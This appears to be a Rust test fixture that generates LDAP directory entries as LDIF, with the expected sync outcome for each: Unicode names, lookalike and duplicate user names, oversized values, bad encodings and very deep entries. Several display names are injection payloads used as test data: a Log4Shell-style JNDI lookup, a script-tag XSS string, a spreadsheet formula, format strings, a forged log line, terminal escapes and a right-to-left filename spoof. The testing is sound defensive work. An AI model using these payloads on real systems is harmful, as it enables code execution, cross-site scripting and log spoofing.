//! Entries that real directories have, and a few that nobody should have, each with what has to
//! become of it.

use std::io::Write;

use anyhow::Result;
use harness::ldap::ldif;
use rollcall_proto::admin::v1::{NotSynchronizedReason as Reason, User};

/// An entry. Its user name and mail address are made of its kind unless it says otherwise.
pub(crate) struct Animal {
    /// Unique; the directory keeps it as `employeeNumber`, which nobody reads.
    pub(crate) kind: &'static str,
    pub(crate) values: Vec<(&'static str, Vec<u8>)>,
    pub(crate) outcome: Outcome,
    /// Below this, deeper than the others.
    parent: Option<String>,
}

/// What has to become of an entry.
pub(crate) enum Outcome {
    /// A user with this value in this field.
    User(fn(&User) -> &str, String),
    /// A user without the value of this attribute, which cannot be used, and with a warning of it.
    Warned(&'static str),
    /// Not synchronized.
    Not(Reason),
    /// One of two: the one with the lower immutable id is a user, the other a duplicate.
    Either(Reason),
}

use Outcome::{Either, Not, Warned};

fn user_name(user: &User) -> &str {
    &user.user_name
}

fn mail(user: &User) -> &str {
    &user.mail
}

fn display_name(user: &User) -> &str {
    &user.display_name
}

fn distinguished_name(user: &User) -> &str {
    &user.distinguished_name
}

fn animal(kind: &'static str, values: &[(&'static str, &[u8])], outcome: Outcome) -> Animal {
    let values = values.iter().map(|(name, value)| (*name, value.to_vec())).collect();
    Animal { kind, values, outcome, parent: None }
}

/// Whose display name has to arrive as it is.
fn shown(kind: &'static str, name: &str) -> Animal {
    animal(kind, &[("displayName", name.as_bytes())], Outcome::User(display_name, name.to_owned()))
}

/// Whose optional value cannot be used.
fn warned(kind: &'static str, attribute: &'static str, value: &[u8]) -> Animal {
    animal(kind, &[(attribute, value)], Warned(attribute))
}

/// Whose value makes it one that is not synchronized.
fn wrong(kind: &'static str, attribute: &'static str, value: &[u8], reason: Reason) -> Animal {
    animal(kind, &[(attribute, value)], Not(reason))
}

/// All of them. The source maps the first name to `audio`: slapd checks what is text, but not what
/// is sound.
pub(crate) fn all(people: &str) -> Vec<Animal> {
    let user = |field, value: &str| Outcome::User(field, value.to_owned());
    let mut all = vec![
        shown("greek", "Σίσυφος Αιολίδης"),
        shown("cyrillic", "Анна Каренина"),
        shown("hebrew", "דוד בן־גוריון"),
        shown("arabic", "محمد بن موسى"),
        shown("devanagari", "क्षत्रिय नमस्ते"),
        shown("thai", "สมชาย ใจดี"),
        shown("han", "李小龍"),
        shown("hangul", "김철수"),
        shown("georgian", "შოთა რუსთაველი"),
        shown("beyond", "𐍈𝒜 👩\u{200d}👩\u{200d}👧"),
        shown("combining", "Zoe\u{308} a\u{323}\u{307}"),
        shown("override", "\u{202e}gpj.exe\u{202c} \u{2066}x\u{2069}"),
        shown("separator", "one\u{2028}two"),
        shown("formula", "=HYPERLINK(\"http://zoo.invalid\",\"zoo\")"),
        shown("markup", "<script>alert('zoo')</script>"),
        shown("percent", "%s%n {} ${jndi:ldap://zoo.invalid}"),
        animal("blank", &[("displayName", b"   ")], user(display_name, "")),
        warned("newline", "displayName", b"zoo\n2026-01-01T00:00:00Z ERROR forged"),
        warned("escape", "displayName", b"\x1b[2J\x1b]0;zoo\x07"),
        warned("c1", "displayName", "\u{9b}31mzoo".as_bytes()),
        warned("nul", "displayName", b"zoo\0zoo"),
        warned("megabyte", "displayName", &vec![b'z'; 1 << 20]),
        warned("binary", "audio", b"\xff\xd8\xff\xe0\0\x10JFIF"),
        warned("latin1", "audio", b"Andr\xe9 zoo"),
        warned("overlong", "audio", b"\xc0\xaf"),
        warned("surrogate", "audio", b"\xed\xa0\x80"),
        wrong("nulname", "uid", b"zoo\0nul", Reason::InvalidAttribute),
        wrong("german", "mail;lang-de", b"german@zoo.test", Reason::MissingEmail),
        animal("unread", &[("description", &vec![b'z'; 1 << 20])], user(user_name, "zoo-unread")),
        animal(
            "bilingual",
            &[("mail", b"bilingual@zoo.test"), ("mail;lang-de", b"a@zoo.test")],
            user(mail, "bilingual@zoo.test"),
        ),
        animal("latin", &[("uid", b"zoo-anna")], user(user_name, "zoo-anna")),
        animal(
            "alike",
            &["uid"].map(|uid| (uid, "zoo-\u{430}nna".as_bytes())),
            user(user_name, "zoo-\u{430}nna"),
        ),
        animal("wide", &["uid"].map(|uid| (uid, "zoo-ａnna".as_bytes())), user(user_name, "zoo-ａnna")),
        animal(
            "composed",
            &["uid"].map(|uid| (uid, "zoo-m\u{fc}ller".as_bytes())),
            Either(Reason::DuplicateUsername),
        ),
        animal(
            "decomposed",
            &["uid"].map(|uid| (uid, "zoo-mu\u{308}ller".as_bytes())),
            Either(Reason::DuplicateUsername),
        ),
        animal(
            "smallest",
            &[("mail", b"z@zoo.test"), ("mail", b"not one"), ("mail", b"b@zoo.test")],
            user(mail, "b@zoo.test"),
        ),
    ];
    let numbers =
        |count: usize| (0..count).map(|number| ("departmentNumber", number.to_string().into_bytes()));
    for (kind, count) in [("hundred", 101), ("thousands", 100_000)] {
        all.push(Animal {
            values: numbers(count).collect(),
            ..animal(kind, &[], Warned("departmentNumber"))
        });
    }
    // 4,096 characters are a long name, and no name has more.
    let deep = deep(people);
    let name = format!("cn=zoo-deep,{}", deep[deep.len() - 2]);
    all.push(Animal {
        parent: deep.iter().rev().nth(1).cloned(),
        ..animal("deep", &[], user(distinguished_name, &name))
    });
    all.push(Animal { parent: deep.last().cloned(), ..animal("deeper", &[], Not(Reason::InvalidAttribute)) });
    all
}

/// Names of units below each other, until the names of what is in the last have more than 4,096
/// bytes.
fn deep(people: &str) -> Vec<String> {
    let mut units: Vec<String> = vec![people.to_owned()];
    while let Some(last) = units.last().filter(|last| last.len() <= 4_096) {
        let unit = format!("ou={},{last}", "z".repeat(200));
        units.push(unit);
    }
    units
}

/// The zoo as LDIF.
pub(crate) fn ldif(people: &str, animals: &[Animal]) -> Result<String> {
    let mut out = Vec::new();
    for unit in &deep(people)[1..] {
        writeln!(out, "dn: {unit}\nobjectClass: organizationalUnit\n")?;
    }
    for Animal { kind, values, parent, .. } in animals {
        let name = format!("zoo-{kind}");
        writeln!(out, "dn: cn={name},{}", parent.as_deref().unwrap_or(people))?;
        writeln!(out, "objectClass: inetOrgPerson\ncn: {name}\nsn: {name}\nemployeeNumber: {kind}")?;
        let has = |attribute: &str| values.iter().any(|(name, _)| name.split(';').next() == Some(attribute));
        if !has("uid") {
            writeln!(out, "uid: {name}")?;
        }
        if !has("mail") {
            writeln!(out, "mail: {kind}@zoo.test")?;
        }
        for (attribute, value) in values {
            ldif::binary(&mut out, attribute, value)?;
        }
        writeln!(out)?;
    }
    Ok(String::from_utf8(out)?)
}
